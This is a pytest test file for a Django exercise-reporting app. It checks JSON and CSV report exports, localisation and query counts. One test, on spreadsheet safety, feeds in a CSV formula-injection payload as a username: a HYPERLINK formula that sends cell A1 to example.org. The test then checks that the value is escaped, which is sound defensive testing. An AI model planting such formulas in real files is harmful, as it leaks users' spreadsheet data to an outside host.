"""The report's data, from an exercise played by `simulate --keep`."""

import csv
import io
import json
from pathlib import Path

import jsonschema
import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import translation

from wargame.exercises.models import Event, Exercise, Role
from wargame.exercises.services import participant_add
from wargame.reports.builder import report_data
from wargame.reports.files import render_format
from wargame.reports.model import report_for
from wargame.reports.models import FeedbackResponse, ImprovementItem, Observation

SCHEMA = json.loads(
    (Path(__file__).resolve().parents[2] / "wargame/reports/report.schema.json").read_text()
)
KEYS = [
    "format", "exercise", "scenario", "teams", "participants", "turns", "injects", "moves",
    "proposals", "agreements", "observations", "ratings", "improvement_plan", "feedback",
    "events",
]  # fmt: skip


@pytest.mark.django_db
def test_the_report_data_has_every_part_and_validates_against_the_schema(
    played: Exercise,
) -> None:
    data = report_data(played)
    assert list(data) == KEYS
    jsonschema.validate(data, SCHEMA)
    scenario = played.scenario
    assert len(data["teams"]) == scenario.nations.count()
    assert [t["number"] for t in data["turns"]] == list(range(1, scenario.turns + 1))
    assert {r["objective"] for r in data["ratings"]} == set(
        scenario.objectives.values_list("code", flat=True)
    )
    assert all(r["proposed"] in "PSMU" and r["reasoning"]["score"] >= 0 for r in data["ratings"])
    assert len(data["moves"]) == played.moves.count()
    assert data["agreements"] and all(a["proposal"] for a in data["agreements"])
    assert all(p["rounds"] for p in data["proposals"])
    answered = [i for i in data["injects"] if i["answered_turn"] is not None]
    assert answered and all(i["turns_to_answer"] >= 0 for i in answered)
    assert any(i["contingency_for"] for i in data["injects"])
    assert data["observations"][0]["text"] == "Relief reached Jérémie by sea on day 2."
    assert len(data["events"]) == Event.objects.filter(exercise=played).count()
    # Played to its end: ENDEX after the last turn, with no reason asked for.
    assert (data["exercise"]["ended_in_turn"], data["exercise"]["end_reason"]) == (8, "")
    conducted = report_for(played, charts=False).conducted
    assert "ENDEX after the last turn, " in conducted
    # The time's own "p.m." ends the sentence: no second full stop.
    assert not conducted.endswith("..")


@pytest.mark.django_db
def test_the_same_exercise_gives_the_same_report_twice(played: Exercise) -> None:
    assert report_data(played) == report_data(played)


@pytest.mark.django_db
def test_the_csv_has_one_row_per_event_in_words(played: Exercise) -> None:
    rows = list(csv.reader(io.StringIO(render_format(played, "csv").decode("utf-8-sig"))))
    assert rows[0] == ["Time", "Turn", "Actor", "Team", "Event", "Details"]
    assert len(rows) - 1 == Event.objects.filter(exercise=played).count()
    assert {row[4] for row in rows[1:]} >= {"Exercise started", "Move submitted"}
    assert not any("move.submitted" in row or "hadr" in row[5] for row in rows)


@pytest.mark.django_db
def test_the_csv_gives_each_events_details_in_the_readers_language(played: Exercise) -> None:
    """Names of the details, nations, inject titles, reasons, factors, times and figures are
    in Spanish; no code of the log (`target_team`, `regional_stability`, `simulation`) is
    shown to a reader."""
    with translation.override("es"):
        rows = list(csv.reader(io.StringIO(render_format(played, "csv").decode("utf-8-sig"))))
    details = {row[4]: row[5] for row in reversed(rows[1:])}  # the first of each kind
    title = played.injects.get(code="M-01").translations["es"]["title"]
    assert details["Inyección entregada"] == f"inyección: M-01; título: {title}"
    assert details["Turno cerrado"] == "motivo: simulación"
    assert "motivo: se publicó el último turno" in details["Ejercicio finalizado (ENDEX)"]
    assert "nación destinataria: Haití" in " ".join(row[5] for row in rows)
    adjudicated = details["Jugada arbitrada"]
    assert "probabilidad base de la acción +0," in adjudicated and "tirada: 0," in adjudicated
    assert "índice de estabilidad regional: " in details["Resultados del turno publicados"]
    assert "duración del turno: 40 minutos" in details["Turno abierto"]
    cells = " ".join(cell for row in rows for cell in row[3:])
    for code in ("target_team", "regional_stability", "simulation", "last turn", "factores: base",
                 "caribbean-storm", "Haiti", "factors"):  # fmt: skip
        assert code not in cells, code


@pytest.mark.django_db
def test_the_csv_is_safe_to_open_in_a_spreadsheet(played: Exercise) -> None:
    """A formula typed as a name or a message is text in the file, shown as typed; the file
    starts with the byte-order mark that makes Excel show accents."""
    formula = '=HYPERLINK("http://example.org/?x="&A1,"Open")'
    user = get_user_model().objects.create_user(formula, first_name=formula)
    participant_add(actor=user, exercise=played, user=user, role=Role.EVALUATOR)
    data = render_format(played, "csv")
    assert data.startswith("\ufeff".encode())
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert any(formula in cell and cell.startswith("'") for cell in cells)


@pytest.mark.django_db
def test_the_report_reads_the_exercise_in_a_fixed_number_of_queries(
    played: Exercise, django_assert_max_num_queries
) -> None:
    with CaptureQueriesContext(connection) as before:
        report_data(played)
    objective = played.scenario.objectives.first()
    for number, participant in enumerate(played.participants.all()[:4]):
        Observation.objects.create(
            exercise=played, objective=objective, turn=1, kind="improvement", text=f"Gap {number}."
        )
        ImprovementItem.objects.create(exercise=played, objective=objective, issue=f"Gap {number}.")
        FeedbackResponse.objects.create(exercise=played, participant=participant,
                                        answers={"realism": 4}, named=number % 2 == 0)  # fmt: skip
    with django_assert_max_num_queries(len(before)):
        data = report_data(played)
    assert len(data["feedback"]["responses"]) == min(4, played.participants.count())
    assert len(before) <= 28


@pytest.mark.django_db
def test_export_report_writes_json_and_csv(played: Exercise, tmp_path: Path) -> None:
    target = tmp_path / "report.json"
    call_command("export_report", played.code, "--format", "json", "-o", str(target),
                 stdout=io.StringIO())  # fmt: skip
    jsonschema.validate(json.loads(target.read_text()), SCHEMA)
    out = io.StringIO()
    call_command("export_report", played.code, "--format", "csv", stdout=out)
    assert out.getvalue().startswith("\ufeffTime,Turn,Actor,Team,Event,Details\r\n")
